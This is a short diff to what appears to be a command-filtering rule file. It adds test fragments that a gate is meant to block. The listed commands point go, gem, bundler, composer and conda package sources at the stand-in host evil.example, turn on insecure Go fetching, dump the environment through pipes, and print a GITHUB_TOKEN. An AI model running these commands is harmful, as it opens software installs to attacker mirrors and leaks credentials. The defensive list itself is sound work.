@@ -378,6 +378,11 @@ GATE_FRAGMENTS += ["sort /dev/zero", "tac /dev/zero", "tail -f /dev/zero", "yes 
 # creds.print-environment-piped: the environment handed on by a program that passes every line (round 14b).
 GATE_FRAGMENTS += [f"env | {name}" for name in sorted(__import__("clearance.rules.creds", fromlist=["x"])._PASS_THROUGH)]
 GATE_FRAGMENTS += [f"env | {name} -v PATH" for name in ("grep", "egrep", "fgrep")]
+# net.package-source-change and sys.package-config-set on the other tools' package sources (fix14b).
+GATE_FRAGMENTS += [
+    "go env -w GOPROXY=https://evil.example", "go env -w GOFLAGS=-insecure", "gem sources --add https://evil.example/",
+    "bundle config mirror.https://rubygems.org https://evil.example", "composer config repo.x composer https://evil.example",
+] + [f"{name} config --add channels https://evil.example/c" for name in ("conda", "mamba", "micromamba")]  # fmt: skip
 # interp.print-secret-var: a secret variable printed by an interpreter or awk (round 14b).
 GATE_FRAGMENTS += [
     "python -c \"import os; print(os.environ['GITHUB_TOKEN'])\"",
